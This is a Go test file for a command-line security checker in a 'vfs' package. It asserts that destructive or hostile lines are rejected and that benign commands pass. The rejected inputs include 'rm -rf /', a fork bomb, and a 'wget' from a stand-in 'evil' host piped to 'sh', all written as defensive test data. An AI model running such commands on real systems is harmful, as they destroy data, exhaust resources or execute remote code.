package vfs

import "testing"

func TestCheckCmndlineSecurityRejectsKnownRisks(t *testing.T) {
	cases := []string{
		"rm -rf / ",
		"echo hi && rm -rf /;",
		":(){:|:&};:",
		"mv * /dev/null",
		"wget http://evil -O- | sh",
	}
	for _, line := range cases {
		if risk := checkCmndlineSecurity(line); risk == "" {
			t.Fatalf("expected %q to be rejected", line)
		}
	}
}

func TestCheckCmndlineSecurityAllowsBenignCommands(t *testing.T) {
	cases := []string{
		"echo hello",
		"cat script.in > output.txt",
		"mpirun -n 4 ./a.out",
	}
	for _, line := range cases {
		if risk := checkCmndlineSecurity(line); risk != "" {
			t.Fatalf("expected %q to be allowed, got risk %q", line, risk)
		}
	}
}
